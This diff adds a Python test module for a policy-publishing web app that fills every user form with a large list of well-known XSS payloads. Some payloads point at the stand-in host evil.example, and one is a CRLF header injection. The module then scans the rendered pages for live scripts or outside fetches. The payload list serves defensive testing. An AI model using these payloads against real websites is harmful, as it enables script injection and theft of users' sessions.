@@ -1,0 +1,325 @@
+"""Hostile words in every field that a person can fill in, as a malicious colleague would put them there by the forms.
+
+The payloads are the public classics (OWASP and PortSwigger cheat sheets, the mutation tricks of DOMPurify's history).
+Each would set `window.__xss`, leave for `evil.example`, or take the form away.
+"""
+
+from collections.abc import Awaitable, Callable, Iterator
+from dataclasses import dataclass
+from itertools import count
+from typing import Any
+
+from bs4 import BeautifulSoup, Tag
+
+from hub.app import House
+from hub.commands import publishing, reviewing
+from schemas.person import Person
+from schemas.review import Decision
+from tests import making
+from tests.console import papers
+from tests.console.clerk import Clerk, Sheet
+from tests.console.test_write_new import CONFIRMED, brought
+
+RUN = "window.__xss=1"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "<script src=//evil.example/x.js></script>",
+    "<script src=data:text/javascript,window.__xss=1></script>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload='{RUN}'>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.__xss=1/>#x'/></svg>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror=&#119;indow.__xss=1 {RUN}>",
+    f"<img/src/onerror={RUN}>",
+    f'<img """><script>{RUN}</script>">',
+    f"<img src=//evil.example/x.png srcset=//evil.example/y.png onload={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}></select>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<p style=animation-name:spin onanimationstart={RUN} onpointerenter={RUN}>x</p>",
+    f"<x contenteditable onblur={RUN} onfocus={RUN} tabindex=1 autofocus>x</x>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"<a href='JaVaScRiPt&colon;{RUN}'>x</a>",
+    f"<a href='java\tscript:{RUN}'>x</a>",
+    f"<a href='\x01javascript:{RUN}'>x</a>",
+    f"<a href='vbscript:{RUN}'>x</a>",
+    "<a href='data:text/html,<script>window.__xss=1</script>'>x</a>",
+    f"[x](javascript:{RUN})",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.__xss=1;{RUN}</script>'></iframe>",
+    "<object data='data:text/html,<script>window.__xss=1</script>'></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<form action=//evil.example><input name=a><button>x</button></form>",
+    "<button formaction=//evil.example form=policy>x</button>",
+    f"<button formaction=javascript:{RUN}>x</button>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
+    "<p style='background:url(//evil.example/x.png);width:expression(window.__xss=1)'>x</p>",
+    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<math><mtext></p><style><!--</style><img src=x onerror={RUN}>-->",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<title><p id='</title><img src=x onerror={RUN}>'>",
+    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    f"<?xml-stylesheet ><img src=x onerror={RUN}>?>",
+    f"</textarea></title></script></style><img src=x onerror={RUN}>",
+    f"\"><script>{RUN}</script>",
+    f"' onfocus={RUN} autofocus='",
+    f"\" autofocus onfocus={RUN} x=\"",
+    f"`onfocus={RUN} autofocus",
+    "{{7*7}}${7*7}<%=7*7%>#{7*7}{%raw%}",
+    f"\u202e<b onmouseover={RUN}>x</b>\u2066\u200b",
+    f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
+    f"＜script＞{RUN}＜/script＞<\u0338script>{RUN}</script>",
+    "x\r\nSet-Cookie: gongbu=evil\r\nLocation: //evil.example\r\n\r\n<b>x",
+    f"<div hx-get=//evil.example hx-trigger=load hx-on::load={RUN} data-hx-post=/logout sse-connect=//evil.example>x</div>",
+    f"<p data-picture=//evil.example data-keep data-confirm={RUN} id=main class=summary>x</p>",
+)
+#: What must not come alive on a page.
+ELEMENTS = {"object", "embed", "base", "math", "template", "noscript", "video", "audio", "marquee", "xmp", "x"}
+ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "hx-get", "sse-connect"}
+SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg", "//")
+
+
+def alive(sheet: Sheet) -> Iterator[str]:
+    """What of the page would act, or fetch from elsewhere: read by two parsers, for they disagree on broken markup."""
+    for parser in ("lxml", "html.parser"):
+        for tag in BeautifulSoup(sheet.text, parser).find_all(True):
+            if _is_alive(tag):
+                yield f"{parser}: {str(tag)[:160]}"
+
+
+def _is_alive(tag: Tag) -> bool:
+    if tag.name in ELEMENTS or tag.name.startswith("scr") and tag.name != "script":
+        return True
+    if tag.name in {"svg", "style"} and ("evil" in str(tag) or "__xss" in str(tag)):
+        return True
+    if tag.name == "scr<script" or tag.name in {"script", "link"} and not str(tag.get("src") or tag.get("href") or "").startswith("/assets/"):
+        return True
+    if tag.name == "iframe" and not str(tag.get("src", "")).startswith("/releases/"):
+        return True
+    if tag.name == "meta" and tag.get("http-equiv"):
+        return True
+    return any(_acts(name, str(value)) for name, value in tag.attrs.items())
+
+
+def _acts(name: str, value: str) -> bool:
+    given = "".join(c for c in value if c > " ").lower()
+    if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc", "xlink:href"}:
+        return True
+    return name in ADDRESSES and (given.startswith(SCHEMES) or "evil.example" in given)
+
+
+class Doses:
+    """Takes the payloads in turn, as many as fit."""
+
+    def __init__(self) -> None:
+        self._turn = count()
+
+    def take(self, limit: int = 200) -> str:
+        taken = ""
+        for _ in range(len(PAYLOADS)):
+            payload = PAYLOADS[next(self._turn) % len(PAYLOADS)]
+            if len(taken) + len(payload) > limit:
+                break
+            taken += payload
+        return taken or PAYLOADS[0]
+
+
+@dataclass(frozen=True)
+class Poisoned:
+    """What was made: releases whose every word is hostile, and what was shown on the way."""
+
+    draft: int
+    public: int
+    sheets: list[Sheet]
+
+
+Enter = Callable[[str], Awaitable[Clerk]]
+Show = Callable[[int], Awaitable[None]]
+
+
+async def spread(house: House, staff: dict[str, Person], enter: Enter, show: Show) -> Poisoned:
+    """Fill in every form with payloads. `show` has a release be seen in public."""
+    doses, sheets = Doses(), list[Sheet]()
+    editor = await enter("editor")
+    sheets += await _office(await enter("admin"), doses)
+    public = await _release(editor, doses, sheets)
+    await _texts(editor, public, doses, sheets)
+    reviewer = await enter("first")
+    sheets += await _said(editor, reviewer, public, doses)
+    for login, level in making.REVIEWS:
+        await reviewing.review(house.hub, staff[login], public, level, Decision.APPROVE, note=doses.take(500))
+    await publishing.publish(house.hub, staff["publisher"], public)
+    sheets += await _steered(await enter("publisher"), public, doses)
+    await show(public)
+    sheets += await _after(await enter("publisher"), public, doses)
+    sheets += await _lent(await enter("signer"), doses)
+    draft = await _release(editor, doses, sheets)
+    return Poisoned(draft, public, sheets)
+
+
+async def _office(admin: Clerk, doses: Doses) -> list[Sheet]:
+    """What an administrator keeps: people, units, phrases, holidays, the template."""
+    found = []
+    for number in range(5):
+        person = {"login": f"evil{number}", "name": doses.take(), "unit": doses.take(), "duties": ["auditor"]}
+        found.append(await admin.send(await admin.get("/admin/people"), "/admin/people", **person))
+        unit = {"name": doses.take(100), "position": str(number)}
+        found.append(await admin.send(await admin.get("/admin/units"), "/admin/units", **unit))
+        phrase = {"wrong": doses.take(100), "correct": doses.take(100), "note": doses.take()}
+        found.append(await admin.send(await admin.get("/admin/phrases"), "/admin/phrases", **phrase))
+    page = await admin.get("/admin/calendar/2031")
+    days = f"2031-10-01 休 {doses.take(100)}".replace("\n", " ").replace("\r", "")
+    found.append(await admin.send(page, page.path, days=days, source=doses.take()))
+    found.append(await admin.send(page, page.path, days=doses.take(2000), source=doses.take()))
+    for body in (doses.take(3000), f"《{{title}}》解读\n\n## {PAYLOADS[0]}\n\n{PAYLOADS[13]}"):
+        found.append(await admin.send(await admin.get("/admin/template"), "/admin/template", body=body))
+    found.append(await admin.get("/admin/people/evil0"))
+    return found
+
+
+def _named(payload: str) -> str:
+    return payload.replace("/", "∕").replace("\\", "").replace("\x00", "").replace("\r", "").replace("\n", "")[:80]
+
+
+async def _release(editor: Clerk, doses: Doses, sheets: list[Sheet]) -> int:
+    """Bring hostile files, and confirm hostile elements."""
+    lines = tuple(("甲" + payload.replace("\x00", "").replace("\x01", ""), "") for payload in PAYLOADS)
+    page = "<html><title>关于甲的解读</title><body>" + "".join(f"<p>甲{one}</p>" for one in PAYLOADS)
+    files = (
+        (_named(doses.take(80)) + ".docx", papers.word((*papers.POLICY[:4], *lines))),
+        (_named(doses.take(80)) + ".html", page.encode()),
+        (_named(doses.take(80)) + ".md", "\n\n".join(("# 关于乙的解读", *PAYLOADS)).encode()),
+        (_named(doses.take(80)) + ".pdf", b"%PDF-1.7"),
+    )
+    asked = await brought(editor, *files)
+    told: dict[str, Any] = {name: doses.take() for name in ("title", "issuer", "addressees", "note")}
+    told |= {"keywords": "，".join(doses.take(60) for _ in range(3)), "signed_on": "2026-11-01"}
+    wrong = {"doc_no": doses.take(60), "index_no": doses.take(), "theme": doses.take(60)}
+    refused = await editor.send(asked, asked.path, **(CONFIRMED | told | wrong))
+    made = await editor.send(asked, asked.path, **(CONFIRMED | told))
+    assert made.path.endswith("/write"), made.words
+    sheets += [asked, refused, made]
+    return int(made.path.split("/")[2])
+
+
+async def _texts(editor: Clerk, release: int, doses: Doses, sheets: list[Sheet]) -> None:
+    """Type, keep, paste, attach, rename."""
+    base = f"/releases/{release}/write"
+    path = f"{base}/interpretation-1"
+    page = await editor.send(await editor.get(base), f"{base}/interpretations")
+    mark = papers.value(page, "_token")
+    # Each alone is another test's matter; here they come together, as one clipboard.
+    html = "".join(f"<p>甲{payload}乙</p>" for payload in PAYLOADS)
+    sheets.append(await editor.post(f"{path}/paste", {"_token": [mark], "html": [html]}))
+    typed = {"title": doses.take(), "summary": doses.take(500), "body": "".join(f"<p>甲{one}</p>" for one in PAYLOADS)}
+    sheets.append(await editor.send(page, path, **typed))
+    kept = papers.fields(page, path) | {"body": ["<p>" + doses.take(4000)], "title": [doses.take()]}
+    sheets += [await editor.post(f"{path}/keep", kept), await editor.get(f"{path}/draft")]
+    sheets.append(await editor.get(f"{base}?draft=interpretation-1"))
+    sheets.append(await editor.send(await editor.get(f"{path}/draft"), f"{path}/draft", choice="save"))
+    for _ in range(4):
+        files = {"files": (_named(doses.take(80)) + ".pdf", b"%PDF-1.7")}
+        sheets.append(await editor.send(await editor.get(base), f"{base}/policy/attach", files=files))
+    page = await editor.get(base)
+    sheets.append(await editor.send(page, f"{base}/policy/rename", new_name=_named(doses.take(100)) + ".pdf"))
+
+
+async def _said(editor: Clerk, reviewer: Clerk, release: int, doses: Doses) -> list[Sheet]:
+    """Submit, comment on passages, answer, send back with a note, submit again."""
+    submit, review = f"/releases/{release}/submit", f"/releases/{release}/review"
+    found = [await _submitted(editor, submit)]
+    for _ in range(3):
+        page = await reviewer.get(review)
+        said = {"words": doses.take(2000), "quote": doses.take(500)}
+        found.append(await reviewer.send(page, f"/releases/{release}/comments", **said))
+    action = next(
+        str(form["action"]) for form in (found[-1]).soup.find_all("form") if str(form["action"]).endswith("/answer")
+    )
+    found.append(await reviewer.send(found[-1], action, words=doses.take(2000)))
+    page = await reviewer.get(review)
+    found.append(await reviewer.send(page, review, decision="return", note=doses.take(2000)))
+    open_ = f"/releases/{release}/write"
+    page = await editor.get(open_)
+    found.append(await editor.send(page, open_, title=doses.take()))
+    return [*found, await _submitted(editor, submit)]
+
+
+async def _submitted(editor: Clerk, submit: str) -> Sheet:
+    page = await editor.get(submit)
+    looked: dict[str, Any] = {"looked": "yes"} if "looked" in page.text else {}
+    sheet = await editor.send(page, submit, **looked)
+    assert "已提交审核" in sheet.text, sheet.words
+    return sheet
+
+
+async def _steered(publisher: Clerk, release: int, doses: Doses) -> list[Sheet]:
+    """Pause a channel for a hostile reason, ask for hostile times, settle with hostile evidence."""
+    found = [await publisher.send(await publisher.get("/channels/rss"), "/channels/rss/pause", why=doses.take(500))]
+    progress = await publisher.get(f"/releases/{release}/progress")
+    found.append(progress)
+    found.append(await publisher.send(await publisher.get("/channels"), "/channels/rss/resume"))
+    one = next(str(a["href"]) for a in progress.soup.select(f"a[href^='/releases/{release}/progress/']"))
+    mark = papers.value(await publisher.get(one), "_token")
+    for act in ("settle", "cancel", "postpone"):
+        given = {"why": [doses.take(500)], "published": ["yes"], "address-policy": [doses.take(200)]}
+        given |= {"day": [doses.take(50)], "clock": [doses.take(50)], "_token": [mark]}
+        if act != "cancel":
+            found.append(await publisher.post(f"{one}/{act}", given))
+    return found
+
+
+async def _after(publisher: Clerk, release: int, doses: Doses) -> list[Sheet]:
+    path = f"/releases/{release}/after/withdrawn"
+    said = {"reason": doses.take(500), "ground": doses.take(), "title": doses.take()}
+    wrong = said | {"address": doses.take(200), "effective_on": doses.take(40)}
+    page = await publisher.get(path)
+    found = [await publisher.send(page, path, **wrong), await publisher.send(page, path, **said)]
+    assert "已提出" in found[-1].text, found[-1].words
+    return found
+
+
+async def _lent(signer: Clerk, doses: Doses) -> list[Sheet]:
+    path = "/me/delegations"
+    page = await signer.get(path)
+    today = papers.value(page, "starts_on")
+    given = {"receiver": "signer2", "starts_on": today, "ends_on": today, "reason": doses.take()}
+    return [await signer.send(page, path, **given), await signer.send(page, path, **(given | {"ends_on": "x"}))]
+
+
+def pages(poisoned: Poisoned) -> dict[str, list[str]]:
+    """Login → every page on which the words show."""
+    one, draft = f"/releases/{poisoned.public}", f"/releases/{poisoned.draft}"
+    search = "/releases?q=%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E%22%3E%3Cimg+src%3Dx+onerror%3Dwindow.__xss%3D1%3E"
+    previews = [f"{place}/preview/{channel}" for place in (one, draft) for channel in ("website", "rss")]
+    return {
+        "editor": ["/", search, f"{draft}/write", f"{draft}/write?with=interpretation-2", f"{draft}/submit"]
+        + ["/releases/new", one, f"{one}/write", f"{one}/preview", *previews],
+        "first": [f"{one}/review", f"{one}/redline?from=1&to=2", f"{one}/redline"],
+        "publisher": [f"{one}/progress", f"{one}/progress/now", f"{one}/publish", f"{one}/after", "/channels"]
+        + [f"{one}/after/repealed", "/channels/rss"],
+        "signer2": [f"{one}/after", "/me/delegations", f"/audit/releases/{poisoned.public}", "/"],
+        "admin": ["/admin", "/admin/people", "/admin/people/evil0", "/admin/units", "/admin/phrases"]
+        + ["/admin/calendar/2031", "/admin/template", "/admin/settings", "/audit/log", "/audit", "/me/delegations"]
+        + ["/audit/log?q=%3Cimg+src%3Dx+onerror%3Dwindow.__xss%3D1%3E&who=%22%3E%3Cscript%3E", "/audit/find?q=%22%3E%3Csvg"]
+        + ["/no%22%3E%3Cscript%3Ewindow.__xss=1%3C/script%3E", "/login?next=javascript:window.__xss=1"]
+        + [f"/me/prove?next=javascript:window.__xss=1", f"{one}?%22%3E%3Cscript%3E=1"],
+    }
